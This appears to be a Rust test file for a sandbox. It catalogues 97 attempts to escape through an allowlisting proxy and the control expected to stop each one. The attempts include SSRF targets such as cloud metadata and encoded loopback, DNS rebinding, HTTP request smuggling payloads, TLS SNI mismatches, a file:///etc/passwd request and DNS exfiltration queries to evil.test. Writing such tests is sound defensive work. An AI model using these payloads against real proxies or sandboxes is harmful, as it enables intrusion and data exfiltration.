//! Ways out of a box that is connected to some hosts: what is tried from inside, and what must stop it.

use std::fs::{self, File};
use std::io::{self, Read as _, Write as _};
use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::{SocketAddr as UnixAddr, UnixStream};
use std::process::ExitCode;
use std::time::Duration;

use libc::c_long;

use crate::calls::call;
use crate::rows::{STOPPED, Tried, why};
use crate::scene::SECRET;

/// How long something inside waits for an answer.
const ANSWER_TIMEOUT: Duration = Duration::from_secs(10);

/// What stops a way out.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum WayStop {
    /// No rule has the host and port.
    Rule,
    /// The name leads to an address that only its own rule grants.
    Address,
    /// The request is not one, or says two things.
    Request,
    /// The proxy sends on what it has checked, and nothing else.
    Rewritten,
    /// What TLS asks for is not what was asked of the proxy.
    TlsName,
    /// The network of the box is its own and empty.
    Namespace,
    /// The filter of system calls.
    Filter,
    Capabilities,
    /// It is not in the box.
    Absence,
    /// Nothing: what is granted works.
    Nothing,
}

enum Try {
    /// Bytes to the proxy, and what comes back.
    Send(&'static str),
    /// The same once a tunnel is open.
    Tunnel(&'static str, fn() -> Vec<u8>),
    Act(fn(&WayScene) -> Tried),
}

pub(crate) struct Way {
    pub(crate) name: &'static str,
    pub(crate) stop: WayStop,
    /// A part of what it is told.
    pub(crate) told: &'static str,
    how: Try,
}

/// What an attempt knows of the machine.
pub(crate) struct WayScene {
    pub(crate) root: std::path::PathBuf,
    /// Of a server on the machine.
    pub(crate) tcp: u16,
    pub(crate) abstract_name: String,
}

const fn send(name: &'static str, stop: WayStop, told: &'static str, bytes: &'static str) -> Way {
    Way { name, stop, told, how: Try::Send(bytes) }
}

const fn tunnel(
    name: &'static str,
    (stop, told): (WayStop, &'static str),
    to: &'static str,
    then: fn() -> Vec<u8>,
) -> Way {
    Way { name, stop, told, how: Try::Tunnel(to, then) }
}

const fn act(name: &'static str, stop: WayStop, told: &'static str, act: fn(&WayScene) -> Tried) -> Way {
    Way { name, stop, told, how: Try::Act(act) }
}

macro_rules! get {
    ($host:literal) => {
        concat!("GET http://", $host, "/ HTTP/1.1\r\nHost: ", $host, "\r\n\r\n")
    };
}
macro_rules! connect {
    ($to:literal) => {
        concat!("CONNECT ", $to, " HTTP/1.1\r\nHost: ", $to, "\r\n\r\n")
    };
}

use WayStop::{
    Absence, Address, Capabilities, Filter, Namespace, Nothing, Request, Rewritten, Rule, TlsName,
};

pub(crate) const WAYS: [Way; 97] = [
    // That everything else is stopped means something only because these are not.
    send("a granted host", Nothing, "host=granted.test line=GET / HTTP/1.1", get!("granted.test")),
    send("a granted name below a domain", Nothing, "host=a.wild.test", get!("a.wild.test")),
    tunnel("a granted host over TLS", (Nothing, "raw="), "granted.test:443", || hello(Some("granted.test"))),
    tunnel("another protocol", (Nothing, "raw=53"), "granted.test:443", || b"SSH-2.0-x\r\n".to_vec()),
    // Hosts.
    send("another host", Rule, "granted here is", get!("evil.test")),
    send("a tunnel to another host", Rule, "granted here is", connect!("evil.test:443")),
    send("a name below a granted one", Rule, "granted here is", get!("evil.granted.test")),
    send("a name that ends like a granted one", Rule, "granted here is", get!("evilgranted.test")),
    send("a name that begins like a granted one", Rule, "granted here is", get!("granted.test.evil.test")),
    send("the domain itself", Rule, "granted here is", get!("wild.test")),
    send("a name that ends like a granted domain", Rule, "granted here is", get!("evilwild.test")),
    send("another port", Rule, "granted here is", get!("granted.test:8080")),
    send("a tunnel to another port", Rule, "granted here is", connect!("granted.test:22")),
    send("a tunnel for mail", Rule, "granted here is", connect!("granted.test:25")),
    send("a name that carries data to another server", Rule, "granted here is", get!("c2VjcmV0.evil.test")),
    send("a name of onions", Rule, "granted here is", connect!("expyuzz4wqqyqhjn.onion:443")),
    // Addresses by themselves.
    send("the address of a granted host", Rule, "granted here is", connect!("93.184.216.34:443")),
    send("an address", Rule, "granted here is", get!("93.184.216.99")),
    send("an address of version 6", Rule, "granted here is", connect!("[2606:4700::1]:443")),
    send("loopback", Rule, "granted here is", get!("127.0.0.1")),
    send("loopback by name", Rule, "granted here is", get!("localhost")),
    send("loopback below its name", Rule, "granted here is", get!("a.localhost")),
    send("loopback of version 6", Rule, "granted here is", connect!("[::1]:80")),
    send("loopback in version 6", Rule, "granted here is", connect!("[::ffff:127.0.0.1]:80")),
    send("any address", Rule, "granted here is", connect!("0.0.0.0:80")),
    send("the metadata service", Rule, "granted here is", get!("169.254.169.254")),
    send("a private address", Rule, "granted here is", get!("10.0.0.5")),
    send("loopback as a number", Request, "its target is not a host", get!("2130706433")),
    send("loopback in hexadecimal", Request, "its target is not a host", get!("0x7f.0.0.1")),
    send("loopback in octal", Request, "its target is not a host", get!("0177.0.0.1")),
    send("loopback in short", Request, "its target is not a host", get!("127.1")),
    send("an address with a zone", Request, "its target is not a host", connect!("[fe80::1%25lo]:80")),
    // Names that are granted and lead elsewhere.
    send("a granted name that leads to loopback", Address, "a loopback address", get!("loop.test")),
    send("a tunnel that leads to loopback", Address, "a loopback address", connect!("loop.test:443")),
    send("a granted name that leads into the network", Address, "a private address", get!("private.test")),
    send("a granted name that leads to metadata", Address, "metadata service", get!("meta.test")),
    send("a granted name that leads to metadata of Azure", Address, "metadata service", get!("azure.test")),
    send("a granted name that leads to mapped loopback", Address, "a loopback address", get!("mapped.test")),
    send(
        "a granted name that leads to translated loopback",
        Address,
        "a loopback address",
        get!("nat64.test"),
    ),
    send("a granted name that leads through 6to4", Address, "stands for another one", get!("sixtofour.test")),
    send("a granted name that leads to version 6 at home", Address, "a private address", get!("ula.test")),
    send("a granted name that leads to a neighbour", Address, "a link-local address", get!("linklocal.test")),
    send("a granted name that leads nowhere", Address, "an unspecified address", get!("zero.test")),
    send("a granted name that leads to a provider", Address, "a provider's own network", get!("cgnat.test")),
    send("a granted name that leads to everyone", Address, "a multicast address", get!("multicast.test")),
    send(
        "a granted name that leads to this machine",
        Address,
        "an address of this machine",
        get!("own.test"),
    ),
    // The secret is at the second of its addresses, and at every one of the next lookup.
    send("a name with two addresses", Rewritten, "host=mixed.test", get!("mixed.test")),
    act("rebinding", Address, "a loopback address", |_| {
        let first = asked(get!("rebind.test").as_bytes()).unwrap_err();
        assert!(first.contains("host=rebind.test"), "{first}");
        asked(get!("rebind.test").as_bytes())
    }),
    send(
        "a redirect",
        Rewritten,
        "302 Found",
        "GET http://granted.test/redirect HTTP/1.1\r\nHost: granted.test\r\n\r\n",
    ),
    // What is read in two ways.
    send(
        "another host in its header",
        Request,
        "`Host` is not its target",
        "GET http://granted.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    ),
    send(
        "two hosts",
        Request,
        "is there twice",
        "GET http://granted.test/ HTTP/1.1\r\nHost: granted.test\r\nHost: evil.test\r\n\r\n",
    ),
    send(
        "another host in the header of a tunnel",
        Request,
        "`Host` is not its target",
        "CONNECT granted.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
    ),
    send(
        "a user in the target",
        Request,
        "its target is not a host",
        "GET http://granted.test@evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    ),
    send(
        "a fragment",
        Request,
        "characters that a path does not have",
        "GET http://granted.test/#@evil.test HTTP/1.1\r\nHost: granted.test\r\n\r\n",
    ),
    send(
        "a backslash",
        Request,
        "its target is not a host",
        "GET http://evil.test\\.granted.test/ HTTP/1.1\r\nHost: granted.test\r\n\r\n",
    ),
    send(
        "an encoded name",
        Request,
        "its target is not a host",
        "GET http://evil%2etest/ HTTP/1.1\r\nHost: granted.test\r\n\r\n",
    ),
    send(
        "a name of other letters",
        Request,
        "its target is not a host",
        "GET http://gr\u{430}nted.test/ HTTP/1.1\r\nHost: granted.test\r\n\r\n",
    ),
    send("a name with a dot at its end", Request, "its target is not a host", get!("granted.test.")),
    send(
        "a name with a zero byte",
        Request,
        "no control characters",
        "GET http://granted.test\0.evil.test/ HTTP/1.1\r\nHost: granted.test\r\n\r\n",
    ),
    send(
        "two lengths",
        Request,
        "is there twice",
        "POST http://granted.test/ HTTP/1.1\r\nHost: granted.test\r\nContent-Length: 4\r\nContent-Length: 60\r\n\r\nabcd",
    ),
    send(
        "a length and chunks",
        Request,
        "two lengths",
        "POST http://granted.test/ HTTP/1.1\r\nHost: granted.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\n\r\n",
    ),
    send(
        "chunks",
        Request,
        "need a `Content-Length`",
        "POST http://granted.test/ HTTP/1.1\r\nHost: granted.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    ),
    send(
        "a folded header",
        Request,
        "name of a header",
        "GET http://granted.test/ HTTP/1.1\r\nHost: granted.test\r\nX: a\r\n Host: evil.test\r\n\r\n",
    ),
    send(
        "a bare line feed",
        Request,
        "lines end with CR and LF",
        "GET http://granted.test/ HTTP/1.1\r\nHost: granted.test\r\nX: a\nHost: evil.test\r\n\r\n",
    ),
    send(
        "a bare carriage return",
        Request,
        "lines end with CR and LF",
        "GET http://granted.test/ HTTP/1.1\r\nHost: granted.test\r\nX: a\rHost: evil.test\r\n\r\n",
    ),
    send(
        "a space before a colon",
        Request,
        "name of a header",
        "GET http://granted.test/ HTTP/1.1\r\nHost: granted.test\r\nTransfer-Encoding : chunked\r\n\r\n",
    ),
    send(
        "HTTP/2 from the beginning",
        Request,
        "is not a method, a target",
        "PRI * HTTP/2.0 \r\n\r\nSM\r\n\r\n",
    ),
    send("the preface of HTTP/2", Request, "only HTTP/1.1", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    send(
        "a request without a host",
        Request,
        "this is a proxy",
        "GET / HTTP/1.1\r\nHost: granted.test\r\n\r\n",
    ),
    send(
        "a file",
        Request,
        "this is a proxy",
        "GET file:///etc/passwd HTTP/1.1\r\nHost: granted.test\r\n\r\n",
    ),
    send("SOCKS 5", Request, "lines end with CR and LF", "\u{5}\u{1}\0\n\n"),
    send(
        "a second request in a body",
        Rewritten,
        "host=granted.test line=POST / HTTP/1.1",
        "POST http://granted.test/ HTTP/1.1\r\nHost: granted.test\r\nContent-Length: 0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    ),
    send(
        "a second request on the same connection",
        Rewritten,
        "host=granted.test line=GET / HTTP/1.1",
        "GET http://granted.test/ HTTP/1.1\r\nHost: granted.test\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    ),
    send(
        "a WebSocket",
        Rewritten,
        "upgrade=none",
        "GET http://granted.test/ HTTP/1.1\r\nHost: granted.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
    ),
    send(
        "HTTP/2 by upgrade",
        Rewritten,
        "upgrade=none",
        "GET http://granted.test/ HTTP/1.1\r\nHost: granted.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
    ),
    send(
        "a key for another proxy",
        Rewritten,
        "proxy=none",
        "GET http://granted.test/ HTTP/1.1\r\nHost: granted.test\r\nProxy-Authorization: Basic eDp5\r\n\r\n",
    ),
    // TLS.
    tunnel("another name in TLS", (TlsName, "alert"), "granted.test:443", || hello(Some("evil.test"))),
    tunnel("no name in TLS", (TlsName, "alert"), "granted.test:443", || hello(None)),
    tunnel("a name below in TLS", (TlsName, "alert"), "granted.test:443", || {
        hello(Some("evil.granted.test"))
    }),
    tunnel("an address in TLS", (TlsName, "alert"), "granted.test:443", || hello(Some("93.184.216.99"))),
    tunnel("another name in pieces of TLS", (TlsName, "alert"), "granted.test:443", || {
        in_pieces(&hello(Some("evil.test")))
    }),
    tunnel("HTTP in a tunnel", (TlsName, "alert"), "granted.test:80", || {
        b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n".to_vec()
    }),
    tunnel("for another client, in words", (TlsName, "alert"), "granted.test:443", || {
        [&b"PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n"[..], &hello(Some("evil.test"))].concat()
    }),
    tunnel("for another client, in bytes", (TlsName, "alert"), "granted.test:443", || {
        [&b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c"[..], &hello(Some("evil.test"))].concat()
    }),
    tunnel("HTTP/2 in a tunnel", (TlsName, "alert"), "granted.test:80", || {
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec()
    }),
    // Past the proxy.
    act("a service of the machine", Namespace, "ECONNREFUSED", |scene| {
        to_tcp(&format!("127.0.0.1:{}", scene.tcp))
    }),
    act("a service of the machine by version 6", Namespace, "ECONNREFUSED", |scene| {
        to_tcp(&format!("[::1]:{}", scene.tcp))
    }),
    act("the world past the proxy", Namespace, "ENETUNREACH", |_| to_tcp("93.184.216.34:443")),
    act("the world past the proxy by version 6", Namespace, "ENETUNREACH", |_| to_tcp("[2606:4700::1]:443")),
    act("metadata past the proxy", Namespace, "ENETUNREACH", |_| to_tcp("169.254.169.254:80")),
    act("UDP", Namespace, "ENETUNREACH", |_| to_udp("93.184.216.34:443", b"secret")),
    act("a question to a name server", Namespace, "ENETUNREACH", |_| {
        to_udp("8.8.8.8:53", b"\0\x01\x01\0\0\x01\0\0\0\0\0\0\x06secret\x04evil\x04test\0\0\x01\0\x01")
    }),
    act("packets of its own", Capabilities, "EPERM", |_| {
        let raw = [libc::AF_INET.into(), libc::SOCK_RAW.into(), libc::IPPROTO_ICMP.into(), 0, 0, 0];
        tried(call(libc::SYS_socket, raw))
    }),
    act("packets of a device", Filter, "EPERM", |_| {
        tried(call(libc::SYS_socket, [libc::AF_PACKET.into(), libc::SOCK_RAW.into(), 0, 0, 0, 0]))
    }),
    act("the network of another process", Filter, "EPERM", |_| {
        let own = File::open("/proc/self/ns/net").map_err(why)?;
        tried(call(libc::SYS_setns, [std::os::fd::AsRawFd::as_raw_fd(&own).into(), 0, 0, 0, 0, 0]))
    }),
    act("sockets of the machine by path and by name", Absence, "ENOENT ECONNREFUSED", |scene| {
        let path = UnixStream::connect(scene.root.join("home/control.sock")).map_err(why);
        let name = UnixAddr::from_abstract_name(&scene.abstract_name).unwrap();
        let name = UnixStream::connect_addr(&name).map_err(why);
        match (path, name) {
            (Err(path), Err(name)) => Err(format!("{path} {name}")),
            _ => Ok("connected".to_owned()),
        }
    }),
    act("what the proxy left in the box", Absence, "no sockets", |_| {
        let is_socket = |fd: fs::DirEntry| {
            fs::read_link(fd.path()).is_ok_and(|to| to.to_string_lossy().starts_with("socket:"))
        };
        let own = fs::read_dir("/proc/self/fd").unwrap().flatten().any(is_socket);
        // Its first process made the socket.
        let first = fs::read_dir("/proc/1/fd").map(|fds| fds.flatten().any(is_socket));
        let taken = TcpListener::bind("127.0.0.1:61080").is_ok();
        match (own, first, taken) {
            (false, Err(_) | Ok(false), false) => Err("no sockets".to_owned()),
            found => Ok(format!("{found:?}")),
        }
    }),
];

/// One attempt, from inside.
pub(crate) fn attempt(name: &str, scene: &WayScene) -> ExitCode {
    let way = WAYS.iter().find(|way| way.name == name).unwrap();
    let tried = match way.how {
        Try::Send(bytes) => asked(bytes.as_bytes()),
        Try::Tunnel(to, then) => tunnelled(to, &then()),
        Try::Act(act) => act(scene),
    };
    match tried {
        Ok(how) => {
            println!("OUT: {how}");
            ExitCode::SUCCESS
        }
        Err(said) => {
            println!("{said}");
            ExitCode::from(u8::try_from(STOPPED).unwrap())
        }
    }
}

fn proxy() -> TcpStream {
    let named = std::env::var("HTTPS_PROXY").unwrap();
    let proxy = TcpStream::connect(named.strip_prefix("http://").unwrap()).unwrap();
    proxy.set_read_timeout(Some(ANSWER_TIMEOUT)).unwrap();
    proxy
}

/// What comes back; `Ok` if it is the secret.
fn asked(bytes: &[u8]) -> Tried {
    let mut proxy = proxy();
    proxy.write_all(bytes).map_err(why)?;
    judged(&answered(&mut proxy))
}

fn tunnelled(to: &str, then: &[u8]) -> Tried {
    let mut proxy = proxy();
    proxy.write_all(format!("CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n").as_bytes()).map_err(why)?;
    let mut answer = [0; 39];
    proxy.read_exact(&mut answer).map_err(why)?;
    assert!(answer.starts_with(b"HTTP/1.1 200 "), "{}", String::from_utf8_lossy(&answer));
    proxy.write_all(then).map_err(why)?;
    let answer = answered(&mut proxy);
    if answer.starts_with(&[21, 3, 3]) { Err("alert".to_owned()) } else { judged(&answer) }
}

fn answered(proxy: &mut TcpStream) -> Vec<u8> {
    let mut answer = Vec::new();
    let _ = proxy.read_to_end(&mut answer);
    answer
}

fn judged(answer: &[u8]) -> Tried {
    let text = String::from_utf8_lossy(answer).replace("\r\n", " ").trim().to_owned();
    if text.contains(SECRET) { Ok("the secret".to_owned()) } else { Err(text) }
}

fn to_tcp(to: &str) -> Tried {
    let to: SocketAddr = to.parse().unwrap();
    let mut stream = TcpStream::connect_timeout(&to, ANSWER_TIMEOUT).map_err(why)?;
    stream.write_all(b"GET / HTTP/1.1\r\n\r\n").map_err(why)?;
    Ok("connected".to_owned())
}

fn to_udp(to: &str, bytes: &[u8]) -> Tried {
    let socket = UdpSocket::bind("0.0.0.0:0").map_err(why)?;
    socket.send_to(bytes, to).map_err(why).map(|_| "sent".to_owned())
}

fn tried(done: io::Result<c_long>) -> Tried {
    done.map_err(why).map(|done| done.to_string())
}

/// The first message of TLS, as short as it can be.
fn hello(name: Option<&str>) -> Vec<u8> {
    let listed = |bytes: &[u8]| [&u16::try_from(bytes.len()).unwrap().to_be_bytes()[..], bytes].concat();
    let extensions = name.map_or_else(Vec::new, |name| {
        let names = listed(&[&[0][..], &listed(name.as_bytes())].concat());
        [vec![0, 0], listed(&names)].concat()
    });
    let body = [&[3, 3][..], &[7; 32], &[0], &listed(&[0x13, 1]), &[1, 0], &listed(&extensions)].concat();
    let length = u32::try_from(body.len()).unwrap().to_be_bytes();
    let message = [&[1], &length[1..], &body].concat();
    [vec![22, 3, 1], listed(&message)].concat()
}

/// The same in records of a few bytes.
fn in_pieces(hello: &[u8]) -> Vec<u8> {
    let record = |part: &[u8]| [&[22, 3, 1, 0, u8::try_from(part.len()).unwrap()][..], part].concat();
    hello[5..].chunks(5).flat_map(record).collect()
}
